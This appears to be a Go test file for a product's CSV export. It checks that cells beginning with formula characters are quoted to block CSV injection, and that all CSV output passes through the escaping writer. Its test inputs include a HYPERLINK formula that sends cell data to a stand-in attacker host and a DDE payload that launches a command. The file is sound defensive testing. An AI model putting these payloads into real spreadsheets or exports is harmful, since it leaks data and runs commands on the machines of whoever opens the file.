package gate

import (
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCSVCellsThatLookLikeFormulasAreQuoted: OWASP's rule for CSV injection,
// one case per character a spreadsheet reads as the start of a formula.
func TestCSVCellsThatLookLikeFormulasAreQuoted(t *testing.T) {
	for _, tc := range []struct{ rule, in, want string }{
		{"a cell that begins with = is quoted", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"a cell that begins with + is quoted", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"a cell that begins with - is quoted", "-2+3", "'-2+3"},
		{"a cell that begins with @ is quoted", "@SUM(1+1)", "'@SUM(1+1)"},
		{"a cell that begins with a tab is quoted", "\t=1+1", "'\t=1+1"},
		{"a cell that begins with a carriage return is quoted", "\r=1+1", "'\r=1+1"},
		{"a phone number stays readable behind the quote", "+49 30 5550123", "'+49 30 5550123"},
		{"a cell without a formula character stays as it is", "Erika =1+1", "Erika =1+1"},
		{"an empty cell stays empty", "", ""},
	} {
		t.Run(tc.rule, func(t *testing.T) {
			var buf bytes.Buffer
			w := newCSVWriter(&buf)
			if err := w.Write([]string{tc.in}); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if got := csvCell(tc.in); got != tc.want {
				t.Fatalf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if !strings.Contains(buf.String(), tc.want) && !strings.Contains(buf.String(), strings.ReplaceAll(tc.want, `"`, `""`)) {
				t.Fatalf("written %q, want the cell %q", buf.String(), tc.want)
			}
		})
	}
}

// TestEveryCSVWriterEscapesFormulas: the product writes CSV only through
// csvWriter, so no export can forget the escaping.
func TestEveryCSVWriterEscapesFormulas(t *testing.T) {
	err := filepath.WalkDir("..", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && strings.HasPrefix(d.Name(), ".") && path != ".." {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.ToSlash(path) == "../gate/audit_csv.go" {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(b, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes CSV without csvWriter (gate/audit_csv.go): cells that begin with = + - @ would be formulas", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
